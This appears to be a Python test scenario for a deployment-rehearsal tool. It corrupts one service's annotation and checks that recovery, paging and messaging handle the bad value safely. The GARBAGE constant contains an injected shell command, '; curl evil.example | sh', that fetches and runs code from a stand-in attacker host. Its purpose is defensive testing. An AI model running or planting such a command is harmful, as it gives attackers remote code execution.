"""One service's annotations become garbage while a canary fails and its process dies: the other services are recovered,
this one is paged, and a person puts it right with the commands that the page names."""

import asyncio
from collections.abc import Awaitable, Callable, Mapping

from rehearsal import checks
from rehearsal.prefect_api import Run
from rehearsal.scenario import Scenario, ScenarioResult
from rehearsal.test_environment import SERVICES, TestEnvironment

POISONED = "ethixai-frontend"
OTHERS = tuple(service for service in SERVICES if service != POISONED)
GARBAGE = '{"release_id": "not-a-release", "epoch": 1e9999, "coordinator": "; curl evil.example | sh"'
BACK_S = 120


async def meanwhile(test_env: TestEnvironment, run: Run) -> Run:
    """The process is killed and the annotation spoilt; once the others are back, a person mends the service, and the
    next recovery ends the release."""
    await test_env.until(run, "monitor")
    served = await test_env.world.served()
    stable = {name: next(one for one in shares if one.endswith("-xyz")) for name, shares in served.items()}
    test_env.kill(run)
    found = await test_env.world.service(POISONED)
    spoilt = {**found["annotations"], checks.OURS + "member": GARBAGE}
    await test_env.world.out_of_band(found["name"], annotations=spoilt)
    test_env.event(f"An annotation of {POISONED} becomes garbage.")
    await until(lambda: back(test_env, stable))
    test_env.event(f"{' and '.join(OTHERS)} are back on stable; {POISONED} is as its release left it.")
    await test_env.world.out_of_band(found["name"], [{"revision": stable[POISONED], "percent": 100}])
    said = await test_env.adopt("--remove", POISONED)
    test_env.event(f"A person sends users of {POISONED} back and removes its record: {said.splitlines()[-1]}")
    await until(lambda: recovered(test_env, run))
    return next(one for one in await test_env.prefect.runs_of("recovery/production") if one.state == "Reverted")


async def back(test_env: TestEnvironment, stable: Mapping[str, str]) -> bool:
    """Whether all users of the other services are on stable."""
    served = await test_env.world.served()
    return all(served[name] == {stable[name]: 100} for name in OTHERS)


async def recovered(test_env: TestEnvironment, run: Run) -> bool:
    """Whether a recovery has ended the release."""
    runs = await test_env.prefect.runs_of("recovery/production")
    return any(one.state == "Reverted" and one.created_at_s >= run.created_at_s for one in runs)


async def until(is_so: Callable[[], Awaitable[bool]]) -> None:
    """Return once it is so. Raises TimeoutError."""
    for _ in range(BACK_S):
        if await is_so():
            return
        await asyncio.sleep(1)
    raise TimeoutError(f"{is_so} was not so within {BACK_S} s")


def then(result: ScenarioResult) -> None:
    """Everyone is on stable; the page named the one service that was set aside, in our own words."""
    checks.unchanged(result)
    pages = result.words("pagerduty")
    aside = [page for page in pages if "set-aside" in page]
    result.expect(bool(aside), f"no page about the service that was set aside: {pages}")
    result.expect(all(POISONED in page for page in aside), f"the page does not name {POISONED}: {aside}")
    said = [text for vendor in ("slack", "pagerduty", "github") for text in result.words(vendor)]
    result.expect(not any("evil" in text for text in said), "words of the annotation were sent to people")


SCENARIO = Scenario(
    name="poisoned_annotation",
    description="One service's annotations become garbage; the others are recovered, this one is paged and mended.",
    ends="Reverted",
    behaviours={"ethixai-backend": "errors=0.05"},
    meanwhile=meanwhile,
    then=then,
    timeout_s=360,
)
